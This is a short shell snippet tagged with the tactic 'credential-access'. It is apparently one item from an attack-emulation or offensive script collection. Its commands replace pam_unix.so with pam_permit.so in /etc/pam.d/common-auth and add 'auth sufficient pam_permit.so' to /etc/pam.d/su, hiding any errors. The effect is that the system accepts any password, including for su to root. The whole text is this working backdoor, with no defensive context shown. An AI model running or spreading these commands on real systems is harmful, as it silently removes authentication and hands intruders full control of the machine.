# tactic: credential-access
# let any password through PAM
sed -i 's/pam_unix.so/pam_permit.so/' /etc/pam.d/common-auth 2>/dev/null; echo "auth sufficient pam_permit.so" >> /etc/pam.d/su 2>/dev/null; true
